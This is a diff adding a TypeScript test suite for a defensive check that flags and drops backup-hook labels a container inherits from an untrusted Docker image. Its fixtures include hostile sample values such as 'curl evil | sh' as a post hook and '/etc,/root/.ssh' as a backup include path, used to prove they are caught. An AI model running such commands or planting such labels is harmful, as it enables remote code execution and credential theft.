@@ -1,0 +1,123 @@
+import { expect } from 'chai';
+import type { LabelSelector } from '@dockop/runtime';
+import { ImageLabelTrust, sensitiveSpecPaths, untrustedLabels } from './image-label-trust.js';
+import { FakeEngine } from './test-support/fake-docker.js';
+
+// The BackupWorkload shape: two prefixes (aliases) decode to the same spec paths.
+const selector: LabelSelector = {
+  prefixes: ['backrest.', 'restic-compose-backup.'],
+  enableLabel: 'backrest.enable',
+  paths: { 'restic-compose-backup.volumes': 'rcb.volumes.enabled' },
+  sensitivePaths: ['pre', 'post', 'paths.include'],
+};
+
+describe('ImageLabelTrust', () => {
+  describe('untrustedLabels (decided on spec paths)', () => {
+    it('catches an image label under the restic-compose-backup alias', () => {
+      const image = {
+        'restic-compose-backup.post': 'curl evil | sh',
+        'restic-compose-backup.paths.include': '/etc,/root/.ssh',
+        'backrest.enable': 'true',
+      };
+      // A container inherits every image label.
+      const labels = { ...image, 'backrest.repo': 'default' };
+      expect(untrustedLabels(selector, labels, image)).to.deep.equal([
+        'restic-compose-backup.paths.include',
+        'restic-compose-backup.post',
+      ]);
+    });
+
+    it('catches the same value reaching the same spec path through another alias', () => {
+      const image = { 'restic-compose-backup.pre': 'touch /pwn' };
+      const labels = { ...image, 'backrest.pre': 'touch /pwn', 'backrest.post': 'echo mine' };
+      expect(untrustedLabels(selector, labels, image)).to.deep.equal([
+        'backrest.pre',
+        'restic-compose-backup.pre',
+      ]);
+    });
+
+    it('trusts a sensitive label the container sets to its own value', () => {
+      const image = { 'restic-compose-backup.post': 'curl evil | sh' };
+      const labels = { 'restic-compose-backup.post': 'echo mine' };
+      expect(untrustedLabels(selector, labels, image)).to.deep.equal([]);
+    });
+
+    it('distrusts every sensitive label when the image is unknown (fail closed)', () => {
+      const labels = {
+        'backrest.enable': 'true',
+        'backrest.pre': 'a',
+        'restic-compose-backup.post': 'b',
+        'backrest.paths.include': '/data',
+        'backrest.paths.exclude': '/data/tmp',
+      };
+      expect(untrustedLabels(selector, labels, undefined)).to.deep.equal([
+        'backrest.paths.include',
+        'backrest.pre',
+        'restic-compose-backup.post',
+      ]);
+    });
+
+    it('counts paths under a sensitive path, and legacy sensitiveLabels keys by their path', () => {
+      const s: LabelSelector = { prefixes: ['a.', 'b.'], sensitiveLabels: ['a.hooks'] };
+      expect(sensitiveSpecPaths(s)).to.deep.equal(['hooks']);
+      const image = { 'b.hooks.pre': 'x' };
+      expect(untrustedLabels(s, { ...image, 'a.other': 'y' }, image)).to.deep.equal([
+        'b.hooks.pre',
+      ]);
+    });
+
+    it('ignores inherited members of both label maps', () => {
+      const image = Object.create({ 'backrest.pre': 'x' }) as Record<string, string>;
+      const labels = Object.assign(Object.create({ 'backrest.post': 'y' }) as object, {
+        'backrest.pre': 'x',
+      }) as Record<string, string>;
+      expect(untrustedLabels(selector, labels, image)).to.deep.equal([]);
+    });
+  });
+
+  describe('filter', () => {
+    it('drops untrusted labels, inspecting each image once', async () => {
+      const engine = new FakeEngine();
+      engine.imageLabels.set('sha256:evil', { 'restic-compose-backup.post': 'curl evil | sh' });
+      const trust = new ImageLabelTrust(engine.client());
+      const labels = { 'backrest.enable': 'true', 'restic-compose-backup.post': 'curl evil | sh' };
+      for (let i = 0; i < 2; i++) {
+        const r = await trust.filter(selector, { labels, imageId: 'sha256:evil' }, false);
+        expect(r.untrusted).to.deep.equal(['restic-compose-backup.post']);
+        expect(r.why).to.equal('image');
+        expect({ ...r.labels }).to.deep.equal({ 'backrest.enable': 'true' });
+      }
+      expect(engine.calls.filter((c) => c.startsWith('image'))).to.deep.equal([
+        'image sha256:evil',
+      ]);
+      const trusted = await trust.filter(selector, { labels, imageId: 'sha256:evil' }, true);
+      expect(trusted.untrusted).to.deep.equal([]);
+      expect(trusted.labels).to.equal(labels);
+    });
+
+    it('fails closed on a deleted image and on an engine error, and asks again next time', async () => {
+      const engine = new FakeEngine();
+      const trust = new ImageLabelTrust(engine.client());
+      const labels = { 'backrest.enable': 'true', 'backrest.pre': 'echo mine' };
+      const gone = await trust.filter(selector, { labels, imageId: 'sha256:gone' }, false);
+      expect(gone).to.deep.include({ untrusted: ['backrest.pre'], why: 'uninspectable' });
+      expect(gone.detail).to.match(/not found/);
+      engine.up = false;
+      const down = await trust.filter(selector, { labels, imageId: 'sha256:img1' }, false);
+      expect(down).to.deep.include({ untrusted: ['backrest.pre'], why: 'uninspectable' });
+      expect(trust.cachedImages).to.equal(0);
+      engine.up = true;
+      const back = await trust.filter(selector, { labels, imageId: 'sha256:img1' }, false);
+      expect(back.untrusted).to.deep.equal([]);
+    });
+
+    it('does not inspect when no sensitive label is present', async () => {
+      const engine = new FakeEngine();
+      const trust = new ImageLabelTrust(engine.client());
+      const labels = { 'backrest.enable': 'true', 'backrest.paths.exclude': '/x' };
+      const r = await trust.filter(selector, { labels, imageId: 'sha256:gone' }, false);
+      expect(r.untrusted).to.deep.equal([]);
+      expect(engine.calls).to.deep.equal([]);
+    });
+  });
+});
